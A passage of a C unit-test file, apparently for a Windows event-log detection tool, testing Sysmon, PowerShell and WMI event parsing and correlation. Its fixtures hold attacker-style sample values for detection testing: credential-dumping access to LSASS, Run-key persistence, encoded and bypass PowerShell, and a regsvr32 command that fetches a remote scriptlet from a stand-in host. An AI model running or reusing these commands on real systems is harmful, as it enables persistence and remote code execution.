	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_PROCESS_GUID),
	    "{AAAAAAAA-0000-0000-0000-0002}");
	ck_assert_str_eq(ev_col(ev, EV_COL_GRANTED_ACCESS), "0x1010");
	ck_assert_str_eq(ev_col(ev, EV_COL_CALL_TRACE),
	    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4");
	ck_assert_ptr_null(ev_col(ev, EV_COL_START_ADDRESS));
	ck_assert_ptr_null(ev_col(ev, EV_COL_USER));
}
END_TEST

/* Tied to the source: by guid, else by computer, pid and time. */
START_TEST(test_sysmon_access_correlate)
{
	struct ev_pair *d;
	struct ev_event *v[8];
	const struct ev_event *const *acts;
	size_t n = 0;
	struct corr *c;

	v[n++] = access_proc("A", 10, "{src}", "100", MIMI);
	v[n++] = access_proc("B", 11, "{other}", "100", MIMI);
	/* by guid, though the pid is another */
	d = ev_arena_alloc(&arena, 4 * sizeof(*d));
	ck_assert_ptr_nonnull(d);
	d[0] = (struct ev_pair){ "SourceProcessGUID", "{src}" };
	d[1] = (struct ev_pair){ "SourceProcessId", "999" };
	d[2] = (struct ev_pair){ "TargetImage", LSASS };
	d[3] = (struct ev_pair){ "GrantedAccess", "0x1410" };
	v[n++] = access_at("A", 12, 10, d, 4);
	/* no guid: by computer and pid (B's process, not A's) */
	d = ev_arena_alloc(&arena, 3 * sizeof(*d));
	ck_assert_ptr_nonnull(d);
	d[0] = (struct ev_pair){ "SourceProcessId", "100" };
	d[1] = (struct ev_pair){ "SourceImage", MIMI };
	d[2] = (struct ev_pair){ "TargetImage", LSASS };
	v[n++] = access_at("B", 13, 8, d, 3);
	/* an unknown guid and pid: tied to nothing */
	d = ev_arena_alloc(&arena, 2 * sizeof(*d));
	ck_assert_ptr_nonnull(d);
	d[0] = (struct ev_pair){ "SourceProcessGUID", "{gone}" };
	d[1] = (struct ev_pair){ "SourceProcessId", "5" };
	v[n++] = access_at("A", 14, 10, d, 2);
	for (size_t i = 0; i < n; i++)
		v[i]->seq = (uint32_t)i;
	ck_assert_int_eq(corr_build(v, n, &c, NULL), 0);
	ck_assert_ptr_eq(corr_process(c, v[2]), v[0]);
	ck_assert_ptr_eq(v[2]->process, v[0]);
	ck_assert_ptr_eq(corr_process(c, v[3]), v[1]);
	ck_assert_ptr_null(corr_process(c, v[4]));
	ck_assert_ptr_null(v[4]->process);
	ck_assert_uint_eq(corr_activity(c, v[0], &acts), 1);
	ck_assert_ptr_eq(acts[0], v[2]);
	ck_assert_uint_eq(corr_activity(c, v[1], &acts), 1);
	ck_assert_ptr_eq(acts[0], v[3]);
	corr_free(c);
}
END_TEST

/* ---- Sysmon 6, 12-15, 17, 18 ---- */

#define RUNKEY	"HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"

/* ev's report line is want */
static void
line_is(const struct ev_event *ev, const char *want)
{
	struct ev_buf b;

	ev_buf_init(&b);
	rp_source_line(ev, &b);
	ck_assert_ptr_nonnull(b.buf);
	ck_assert_str_eq(b.buf, want);
	ev_buf_release(&b);
}

START_TEST(test_sysmon_driver)
{
	static const struct ev_pair d[] = {
		{ "UtcTime", "2024-03-07 09:36:00.100" },
		{ "ImageLoaded", "C:\\Windows\\System32\\drivers\\x.sys" },
		{ "Hashes", "SHA1=AA,MD5=BB,SHA256=CC,IMPHASH=DD" },
		{ "Signed", "false" },
		{ "Signature", "Evil Corp" },
		{ "SignatureStatus", "Expired" },
	};
	struct ev_event *ev = access_at("A", 1, 6, d, NELEM(d));

	ck_assert_int_eq(ev->kind, EV_KIND_DRIVER_LOAD);
	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE_LOADED),
	    "C:\\Windows\\System32\\drivers\\x.sys");
	ck_assert_str_eq(ev_col(ev, EV_COL_HASHES),
	    "SHA1=AA,MD5=BB,SHA256=CC,IMPHASH=DD");
	ck_assert_str_eq(ev_col(ev, EV_COL_SHA1), "AA");
	ck_assert_str_eq(ev_col(ev, EV_COL_MD5), "BB");
	ck_assert_str_eq(ev_col(ev, EV_COL_SHA256), "CC");
	ck_assert_str_eq(ev_col(ev, EV_COL_IMPHASH), "DD");
	ck_assert_str_eq(ev_col(ev, EV_COL_SIGNED), "0");
	ck_assert_str_eq(ev_col(ev, EV_COL_SIGNATURE), "Evil Corp");
	ck_assert_str_eq(ev_col(ev, EV_COL_SIGNATURE_STATUS), "Expired");
	ck_assert_ptr_null(ev_col(ev, EV_COL_PROCESS_GUID));
	ck_assert_ptr_null(ev_col(ev, EV_COL_PID));
	ck_assert(!ev_examinable(ev));
	/* the data stays as logged for the rules */
	ck_assert_str_eq(ev_data(ev, "Signed"), "false");
	line_is(ev, "driver loaded C:\\Windows\\System32\\drivers\\x.sys "
	    "(signed: false, Evil Corp, Expired)");
}
END_TEST

START_TEST(test_sysmon_registry)
{
	static const struct ev_pair set[] = {
		{ "EventType", "SetValue" },
		{ "ProcessGuid", "{AAAAAAAA-0000-0000-0000-0001}" },
		{ "ProcessId", "4242" },
		{ "Image", MIMI },
		{ "TargetObject", RUNKEY "\\x" },
		{ "Details", "C:\\Users\\bob\\m.exe\r\n\"-e\"\t<x>" },
		{ "User", "CORP\\bob" },
	};
	static const struct ev_pair del[] = {
		{ "EventType", "DeleteKey" },
		{ "ProcessId", "4242" },
		{ "TargetObject", RUNKEY },
	};
	static const struct ev_pair add[] = {
		{ "EventType", "CreateKey" },
		{ "TargetObject", RUNKEY },
	};
	static const struct ev_pair ren[] = {
		{ "EventType", "RenameKey" },
		{ "TargetObject", RUNKEY },
		{ "NewName", RUNKEY "Old" },
	};
	struct ev_event *ev = access_at("A", 1, 13, set, NELEM(set));

	ck_assert_int_eq(ev->kind, EV_KIND_REGISTRY);
	ck_assert_str_eq(ev_col(ev, EV_COL_EVENT_TYPE), "SetValue");
	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_OBJECT), RUNKEY "\\x");
	ck_assert_str_eq(ev_col(ev, EV_COL_DETAILS),
	    "C:\\Users\\bob\\m.exe\r\n\"-e\"\t<x>");
	ck_assert_str_eq(ev_col(ev, EV_COL_PROCESS_GUID),
	    "{AAAAAAAA-0000-0000-0000-0001}");
	ck_assert_str_eq(ev_col(ev, EV_COL_PID), "4242");
	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), MIMI);
	ck_assert_str_eq(ev_col(ev, EV_COL_USER), "CORP\\bob");
	ck_assert_ptr_null(ev_col(ev, EV_COL_NEW_NAME));
	ck_assert(!ev_examinable(ev));
	/* one line: breaks and tabs as blanks; the writers escape the rest */
	line_is(ev, "registry set " RUNKEY "\\x = C:\\Users\\bob\\m.exe "
	    "\"-e\" <x>");
	ev = access_at("A", 1, 12, del, NELEM(del));
	ck_assert_ptr_null(ev_col(ev, EV_COL_DETAILS));
	line_is(ev, "registry delete " RUNKEY " (DeleteKey)");
	line_is(access_at("A", 1, 12, add, NELEM(add)),
	    "registry create " RUNKEY " (CreateKey)");
	ev = access_at("A", 1, 14, ren, NELEM(ren));
	ck_assert_str_eq(ev_col(ev, EV_COL_NEW_NAME), RUNKEY "Old");
	line_is(ev, "registry rename " RUNKEY " -> " RUNKEY "Old");
	/* nothing logged: ? for each part */
	line_is(access_at("A", 1, 13, NULL, 0), "registry set ? = ?");
}
END_TEST

START_TEST(test_sysmon_stream_pipe)
{
	static const struct ev_pair st[] = {
		{ "ProcessGuid", "{AAAAAAAA-0000-0000-0000-0001}" },
		{ "ProcessId", "4242" },
		{ "Image", MIMI },
		{ "TargetFilename", "C:\\Users\\bob\\p.exe:Zone.Identifier" },
		{ "Hash", "MD5=11,SHA256=22" },
		{ "Contents", "[ZoneTransfer]\r\nZoneId=3\r\n" },
	};
	static const struct ev_pair st_old[] = {
		{ "TargetFilename", "C:\\t.txt:ads" },
		{ "Hash", "SHA1=33" },
		{ "Contents", "-" },
	};
	static const struct ev_pair pipe[] = {
		{ "EventType", "ConnectPipe" },
		{ "ProcessGuid", "{AAAAAAAA-0000-0000-0000-0001}" },
		{ "ProcessId", "4242" },
		{ "PipeName", "\\msagent_12" },
		{ "Image", MIMI },
	};
	struct ev_event *ev = access_at("A", 1, 15, st, NELEM(st));

	ck_assert_int_eq(ev->kind, EV_KIND_STREAM_HASH);
	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_FILENAME),
	    "C:\\Users\\bob\\p.exe:Zone.Identifier");
	ck_assert_str_eq(ev_col(ev, EV_COL_HASHES), "MD5=11,SHA256=22");
	ck_assert_str_eq(ev_col(ev, EV_COL_MD5), "11");
	ck_assert_str_eq(ev_col(ev, EV_COL_SHA256), "22");
	ck_assert_ptr_null(ev_col(ev, EV_COL_SHA1));
	ck_assert_str_eq(ev_col(ev, EV_COL_CONTENTS),
	    "[ZoneTransfer]\r\nZoneId=3\r\n");
	line_is(ev, "stream C:\\Users\\bob\\p.exe:Zone.Identifier: "
	    "[ZoneTransfer] ZoneId=3 ");
	ev = access_at("A", 1, 15, st_old, NELEM(st_old));
	ck_assert_str_eq(ev_col(ev, EV_COL_SHA1), "33");
	line_is(ev, "stream C:\\t.txt:ads");
	/* Hash counts only for 15: another event's Hash is not split */
	ev = access_at("A", 1, 11, st_old, NELEM(st_old));
	ck_assert_ptr_null(ev_col(ev, EV_COL_HASHES));
	ck_assert_ptr_null(ev_col(ev, EV_COL_SHA1));

	ev = access_at("A", 1, 18, pipe, NELEM(pipe));
	ck_assert_int_eq(ev->kind, EV_KIND_PIPE);
	ck_assert_str_eq(ev_col(ev, EV_COL_EVENT_TYPE), "ConnectPipe");
	ck_assert_str_eq(ev_col(ev, EV_COL_PIPE_NAME), "\\msagent_12");
	ck_assert_str_eq(ev_col(ev, EV_COL_PID), "4242");
	line_is(ev, "pipe connected \\msagent_12");
	ev = access_at("A", 1, 17, pipe, NELEM(pipe));
	line_is(ev, "pipe created \\msagent_12");
}
END_TEST

/* 12-15, 17, 18 tied to their process (guid, else computer, pid, time);
   a driver load (6) to none. */
START_TEST(test_sysmon_more_correlate)
{
	struct ev_pair *d;
	struct ev_event *v[8];
	const struct ev_event *const *acts;
	size_t n = 0;
	struct corr *c;

	v[n++] = access_proc("A", 10, "{p}", "100", MIMI);
	v[n++] = access_proc("B", 11, "{q}", "100", MIMI);
	d = ev_arena_alloc(&arena, 3 * sizeof(*d));
	ck_assert_ptr_nonnull(d);
	d[0] = (struct ev_pair){ "ProcessGuid", "{p}" };
	d[1] = (struct ev_pair){ "ProcessId", "999" };
	d[2] = (struct ev_pair){ "TargetObject", RUNKEY };
	v[n++] = access_at("A", 12, 13, d, 3);
	d = ev_arena_alloc(&arena, 2 * sizeof(*d));
	ck_assert_ptr_nonnull(d);
	d[0] = (struct ev_pair){ "ProcessId", "100" };
	d[1] = (struct ev_pair){ "PipeName", "\\x" };
	v[n++] = access_at("B", 13, 17, d, 2);
	d = ev_arena_alloc(&arena, 2 * sizeof(*d));
	ck_assert_ptr_nonnull(d);
	d[0] = (struct ev_pair){ "ProcessGuid", "{p}" };
	d[1] = (struct ev_pair){ "TargetFilename", "C:\\a:b" };
	v[n++] = access_at("A", 14, 15, d, 2);
	/* a driver names no process: tied to none, though a pid would fit */
	d = ev_arena_alloc(&arena, 2 * sizeof(*d));
	ck_assert_ptr_nonnull(d);
	d[0] = (struct ev_pair){ "ImageLoaded", "C:\\x.sys" };
	d[1] = (struct ev_pair){ "ProcessId", "100" };
	v[n++] = access_at("A", 15, 6, d, 2);
	/* the pipe of an unknown process: tied to nothing */
	d = ev_arena_alloc(&arena, 2 * sizeof(*d));
	ck_assert_ptr_nonnull(d);
	d[0] = (struct ev_pair){ "ProcessId", "7" };
	d[1] = (struct ev_pair){ "PipeName", "\\y" };
	v[n++] = access_at("A", 16, 18, d, 2);
	for (size_t i = 0; i < n; i++)
		v[i]->seq = (uint32_t)i;
	ck_assert_int_eq(corr_build(v, n, &c, NULL), 0);
	ck_assert_ptr_eq(corr_process(c, v[2]), v[0]);
	ck_assert_ptr_eq(v[2]->process, v[0]);
	ck_assert_ptr_eq(corr_process(c, v[3]), v[1]);
	ck_assert_ptr_eq(v[4]->process, v[0]);
	ck_assert_ptr_null(corr_process(c, v[5]));
	ck_assert_ptr_null(v[5]->process);
	ck_assert_ptr_null(corr_process(c, v[6]));
	ck_assert_uint_eq(corr_activity(c, v[0], &acts), 2);
	ck_assert_ptr_eq(acts[0], v[2]);
	ck_assert_ptr_eq(acts[1], v[4]);
	ck_assert_uint_eq(corr_activity(c, v[1], &acts), 1);
	ck_assert_ptr_eq(acts[0], v[3]);
	corr_free(c);
}
END_TEST

/* ---- PowerShell 4103, 400, 800 ---- */

START_TEST(test_powershell_pipeline)
{
	static const struct ev_pair m[] = {
		{ "ContextInfo", "        Severity = Informational\r\n"
		    "        Host Application = powershell.exe -enc SQBFAFgA \r\n"
		    "        Command Name = Invoke-Expression\r\n" },
		{ "UserData", "" },
		{ "Payload", "CommandInvocation(Invoke-Expression)" },
	};
	static const struct ev_pair bare[] = {
		{ "ContextInfo", "        Host Application = \r\n" },
		{ "Payload", "Get-Date" },
	};
	struct ev_event *ev = normalised(EV_PROVIDER_POWERSHELL,
	    "Microsoft-Windows-PowerShell/Operational", 4103, m, NELEM(m));

	ck_assert_int_eq(ev->kind, EV_KIND_POWERSHELL);
	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE),
	    "powershell.exe -enc SQBFAFgA");
	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), "powershell.exe");
	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_TEXT),
	    "CommandInvocation(Invoke-Expression)");
	ck_assert(ev_examinable(ev));
	/* an empty host application: not examinable, what ran kept */
	ev = normalised(EV_PROVIDER_POWERSHELL,
	    "Microsoft-Windows-PowerShell/Operational", 4103, bare,
	    NELEM(bare));
	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_TEXT), "Get-Date");
	ck_assert(!ev_examinable(ev));
}
END_TEST

/* Windows PowerShell 400 / 800: unnamed values, "Key=Value" lines */
START_TEST(test_powershell_classic)
{
	static const struct ev_pair start[] = {
		{ "", "Available" }, { "", "None" },
		{ "", "\tNewEngineState=Available\r\n\r\n"
		    "\tHostName=ConsoleHost\r\n\tHostVersion=5.1.1\r\n"
		    "\tHostApplication=powershell.exe -ep bypass -f a.ps1 \r\n"
		    "\tEngineVersion=5.1.1\r\n\tCommandLine=\r\n" },
	};
	static const struct ev_pair v2[] = {
		{ "", "Available" }, { "", "None" },
		{ "", "\tHostName=ConsoleHost\n\tHostVersion=2.0\n"
		    "\tEngineVersion=\n" },
	};
	static const struct ev_pair pipe[] = {
		{ "", "" },
		{ "", "\tDetailSequence=1\r\n\tHostApplication=powershell\r\n"
		    "\tCommandLine=\r\n" },
		{ "", "CommandInvocation(Out-Default): \"Out-Default\"" },
	};
	static const struct ev_pair none[] = {
		{ "", "HostApplication" }, { "", "=x\nHostApplicationX=y" },
	};
	struct ev_event *ev;

	ck_assert_int_eq(ev_classify("PowerShell", 10, 400),
	    EV_KIND_POWERSHELL);
	ck_assert_int_eq(ev_classify("PowerShell", 10, 800),
	    EV_KIND_POWERSHELL);
	ck_assert_int_eq(ev_classify("PowerShell", 10, 403), EV_KIND_NONE);
	ck_assert_int_eq(ev_classify(EV_PROVIDER_SYSMON,
	    strlen(EV_PROVIDER_SYSMON), 400), EV_KIND_NONE);
	ev = normalised("PowerShell", "Windows PowerShell", 400, start,
	    NELEM(start));
	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE),
	    "powershell.exe -ep bypass -f a.ps1");
	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), "powershell.exe");
	ck_assert_str_eq(ev_col(ev, EV_COL_PS_HOST_NAME), "ConsoleHost");
	ck_assert_str_eq(ev_col(ev, EV_COL_PS_HOST_VERSION), "5.1.1");
	ck_assert_str_eq(ev_col(ev, EV_COL_PS_ENGINE_VERSION), "5.1.1");
	ck_assert_ptr_null(ev_col(ev, EV_COL_SCRIPT_TEXT));
	ck_assert(ev_examinable(ev));
	ck_assert(!ev_pwsh_downgrade(ev));
	/* the 2.0 engine: no HostApplication, an empty EngineVersion */
	ev = normalised("PowerShell", "Windows PowerShell", 400, v2,
	    NELEM(v2));
	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
	ck_assert_ptr_null(ev_col(ev, EV_COL_PS_ENGINE_VERSION));
	ck_assert_str_eq(ev_col(ev, EV_COL_PS_HOST_VERSION), "2.0");
	ck_assert(ev_pwsh_downgrade(ev));
	ck_assert(!ev_examinable(ev));
	/* 800 without a CommandLine: the pipeline's details */
	ev = normalised("PowerShell", "Windows PowerShell", 800, pipe,
	    NELEM(pipe));
	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE), "powershell");
	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_TEXT),
	    "CommandInvocation(Out-Default): \"Out-Default\"");
	ck_assert(!ev_pwsh_downgrade(ev));
	/* keys only as whole line starts: nothing here */
	ev = normalised("PowerShell", "Windows PowerShell", 400, none,
	    NELEM(none));
	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
	ck_assert_ptr_null(ev_col(ev, EV_COL_PS_HOST_NAME));
	ev = normalised("PowerShell", "Windows PowerShell", 800, none, 0);
	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
}
END_TEST


/* ---- WMI subscriptions: Sysmon 19, 20, 21, WMI-Activity 5861 ---- */

#define SYSMON_CHAN	"Microsoft-Windows-Sysmon/Operational"
#define WMI_CHAN	"Microsoft-Windows-WMI-Activity/Operational"

START_TEST(test_wmi_sysmon)
{
	/* as Sysmon logs them: a blank, quotes, backslash escapes */
	static const struct ev_pair f[] = {
		{ "EventType", "WmiFilterEvent" }, { "Operation", "Created" },
		{ "User", "CORP\\bob" },
		{ "EventNamespace", " \"root\\\\cimv2\"" },
		{ "Name", " \"Upd \\\"x\\\"\"" },
		{ "Query", " \"SELECT * FROM __InstanceModificationEvent\"" },
	};
	static const struct ev_pair c[] = {
		{ "Operation", "Created" }, { "User", "CORP\\bob" },
		{ "Name", " \"Upd\"" }, { "Type", "Command Line" },
		{ "Destination", " \"C:\\\\Windows\\\\System32\\\\regsvr32.exe "
		    "/s /i:http://x/p.sct scrobj.dll\"" },
	};
	static const struct ev_pair sc[] = {
		{ "Name", "\"S\"" }, { "Type", "Script" },
		{ "Destination", " \"GetObject(\\\"winmgmts:\\\")\"" },
	};
	static const struct ev_pair b[] = {
		{ "Operation", "Created" },
		{ "Consumer", " \"\\\\\\\\.\\\\root\\\\subscription:"
		    "CommandLineEventConsumer.Name=\\\"Upd\\\"\"" },
		{ "Filter", " \"\\\\\\\\.\\\\root\\\\subscription:"
		    "__EventFilter.Name=\\\"Upd \\\\\\\"x\\\\\\\"\\\"\"" },
	};
	struct ev_event *ev;

	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 19, f, NELEM(f));
	ck_assert_int_eq(ev->kind, EV_KIND_WMI);
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_FILTER), "Upd \"x\"");
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_NAMESPACE), "root\\cimv2");
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_QUERY),
	    "SELECT * FROM __InstanceModificationEvent");
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_OPERATION), "Created");
	ck_assert_str_eq(ev_col(ev, EV_COL_USER), "CORP\\bob");
	ck_assert(!ev_examinable(ev));

	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 20, c, NELEM(c));
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER), "Upd");
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER_CLASS),
	    "CommandLineEventConsumer");
	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE),
	    "C:\\Windows\\System32\\regsvr32.exe /s /i:http://x/p.sct "
	    "scrobj.dll");
	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE),
	    "C:\\Windows\\System32\\regsvr32.exe");
	ck_assert_ptr_null(ev_col(ev, EV_COL_SCRIPT_TEXT));
	ck_assert(ev_examinable(ev));

	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 20, sc, NELEM(sc));
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER_CLASS),
	    "ActiveScriptEventConsumer");
	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_TEXT),
	    "GetObject(\"winmgmts:\")");
	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
	ck_assert(ev_examinable(ev));

	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 21, b, NELEM(b));
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER), "Upd");
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER_CLASS),
	    "CommandLineEventConsumer");
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_FILTER), "Upd \"x\"");
	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
}
END_TEST

#define CAUSE_FILTER \
	"Binding EventFilter: \n" \
	"instance of __EventFilter\n{\n" \
	"\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0};\n" \
	"\tEventNamespace = \"root\\\\cimv2\";\n" \
	"\tName = \"Upd\";\n" \
	"\tQuery = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 " \
	"WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\";\n" \
	"\tQueryLanguage = \"WQL\";\n};\n"

START_TEST(test_wmi_5861)
{
	static const struct ev_pair d[] = {
		{ "Namespace", "//./root/subscription" },
		{ "ESS", "Upd" },
		{ "CONSUMER", "CommandLineEventConsumer=\"Upd\"" },
		{ "PossibleCause", CAUSE_FILTER "Perm. Consumer: \n"
		    "instance of CommandLineEventConsumer\n{\n"
		    "\tCommandLineTemplate = \"C:\\\\Windows\\\\System32\\\\"
		    "regsvr32.exe /s /n /u /i:http://x/p.sct scrobj.dll\";\n"
		    "\tCreatorSID = {1, 5};\n\tName = \"Upd\";\n};\n" },
	};
	static const struct ev_pair script[] = {
		{ "ESS", "" },
		{ "CONSUMER", "" },
		{ "PossibleCause", CAUSE_FILTER "Perm. Consumer: \n"
		    "instance of ActiveScriptEventConsumer\n{\n"
		    "\tName = \"S\";\n\tScriptingEngine = \"JScript\";\n"
		    "\tScriptText = \"var a = \\\"b;c\\\";\\nrun(a);\";\n};\n" },
	};
	static const struct ev_pair evlog[] = {
		{ "Namespace", "//./root/subscription" },
		{ "ESS", "SCM Event Log Filter" },
		{ "CONSUMER", "NTEventLogEventConsumer=\"SCM Event Log Consumer\"" },
		{ "PossibleCause", "Binding EventFilter: \ninstance of "
		    "__EventFilter\n{\n\tName = \"SCM Event Log Filter\";\n};\n"
		    "Perm. Consumer: \ninstance of NTEventLogEventConsumer\n{\n"
		    "\tName = \"SCM Event Log Consumer\";\n"
		    "\tSourceName = \"Service Control Manager\";\n};\n" },
	};
	struct ev_event *ev;

	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, d, NELEM(d));
	ck_assert_int_eq(ev->kind, EV_KIND_WMI);
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_FILTER), "Upd");
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER), "Upd");
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER_CLASS),
	    "CommandLineEventConsumer");
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_NAMESPACE), "root\\cimv2");
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_QUERY), "SELECT * FROM "
	    "__InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
	    "'Win32_PerfFormattedData_PerfOS_System'");
	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE),
	    "C:\\Windows\\System32\\regsvr32.exe /s /n /u /i:http://x/p.sct "
	    "scrobj.dll");
	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE),
	    "C:\\Windows\\System32\\regsvr32.exe");
	ck_assert_ptr_null(ev_col(ev, EV_COL_WMI_OPERATION));
	ck_assert(ev_examinable(ev));

	/* names from the MOF when ESS and CONSUMER are empty; a script */
	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, script,
	    NELEM(script));
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_FILTER), "Upd");
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER), "S");
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER_CLASS),
	    "ActiveScriptEventConsumer");
	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_TEXT),
	    "var a = \"b;c\";\nrun(a);");
	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));

	/* Windows' own: runs nothing, so shows nothing of what ran */
	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, evlog,
	    NELEM(evlog));
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER_CLASS),
	    "NTEventLogEventConsumer");
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_NAMESPACE),
	    "//./root/subscription");
	ck_assert_ptr_null(ev_col(ev, EV_COL_WMI_QUERY));
	ck_assert(!ev_examinable(ev));
}
END_TEST

/* Hostile values: missing, unterminated, odd, huge. */
START_TEST(test_wmi_hostile)
{
	static const struct ev_pair none[] = { { "Other", "x" } };
	static const struct ev_pair odd[] = {
		{ "Name", "   " },
		{ "Consumer", " \"no name here" },
		{ "Filter", "\"\\\\.\\root:__EventFilter.Name=\\\"open" },
		{ "Destination", "\"\\" },
	};
	static const struct ev_pair cause[] = {
		{ "PossibleCause", "instance of\n{ = ; Name = \"unterminated" },
		{ "CONSUMER", "=\"" },
	};
	const char *ids[] = { "19", "20", "21" };
	size_t big = 1u << 21;
	char *huge = malloc(big + 8);
	struct ev_pair hd[2];
	struct ev_event *ev;

	for (size_t i = 0; i < NELEM(ids); i++) {
		uint32_t id = (uint32_t)atoi(ids[i]);

		ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, id, none, 1);
		ck_assert_int_eq(ev->kind, EV_KIND_WMI);
		for (int c = EV_COL_WMI_OPERATION; c <= EV_COL_WMI_QUERY; c++)
			ck_assert_ptr_null(ev_col(ev, c));
		ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
		ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, id, odd,
		    NELEM(odd));
	}
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER_CLASS), "no name here");
	ck_assert_ptr_null(ev_col(ev, EV_COL_WMI_CONSUMER));
	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_FILTER), "open");
	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, cause, NELEM(cause));
	ck_assert_ptr_null(ev_col(ev, EV_COL_WMI_CONSUMER));
	ck_assert_ptr_null(ev_col(ev, EV_COL_WMI_FILTER));
	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, none, 1);
	ck_assert_ptr_null(ev_col(ev, EV_COL_WMI_FILTER));

	/* a 2 MiB Destination is kept whole; a 2 MiB PossibleCause is
	   read to EV_WMI_TEXT_MAX: the command after it is not seen */
	ck_assert_ptr_nonnull(huge);
	memcpy(huge, " \"", 2);
	memset(huge + 2, 'a', big);
	memcpy(huge + 2 + big, "\"", 2);
	hd[0] = (struct ev_pair){ "Type", "Command Line" };
	hd[1] = (struct ev_pair){ "Destination", huge };
	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 20, hd, 2);
	ck_assert_uint_eq(strlen(ev_col(ev, EV_COL_COMMAND_LINE)), big);
	memset(huge, ' ', big);
	memcpy(huge + big - 8, "\nA = \"b\"", 9);
	memcpy(huge, "instance of X\n{\n", 16);
	memcpy(huge + big - 40, "\tCommandLineTemplate = \"a.exe\";\n", 32);
	hd[0] = (struct ev_pair){ "PossibleCause", huge };
	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, hd, 1);
	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
	memcpy(huge + 100, "\tCommandLineTemplate = \"b.exe\";\n", 32);
	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, hd, 1);
	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE), "b.exe");
	free(huge);
}
END_TEST


/* ---- WMI: the join by name and the processes a consumer started ---- */

static struct ev_event *
wmi_at(const char *host, uint64_t t, uint32_t id, const struct ev_pair *d,
    uint32_t n)
{
	struct ev_event *ev = normalised(id == 5861 ? EV_PROVIDER_WMI :
	    EV_PROVIDER_SYSMON, id == 5861 ? WMI_CHAN : SYSMON_CHAN, id, d, n);

	ck_assert_int_eq(ev_col_set(ev, EV_COL_COMPUTER, host, &arena), 0);
	ev->time = t;
	return ev;
}

static struct ev_event *
wmi_consumer(const char *host, uint64_t t, const char *name,
    const char *dst)
{
	struct ev_pair *d = ev_arena_alloc(&arena, 3 * sizeof(*d));

	ck_assert_ptr_nonnull(d);
	d[0] = (struct ev_pair){ "Name", name };
	d[1] = (struct ev_pair){ "Type", "Command Line" };
	d[2] = (struct ev_pair){ "Destination", dst };
	return wmi_at(host, t, 20, d, 3);
}

static struct ev_event *
wmi_proc_img(const char *host, uint64_t t, const char *guid,
    const char *img, const char *cmd, const char *parent)
{
	struct ev_pair *d = ev_arena_alloc(&arena, 6 * sizeof(*d));

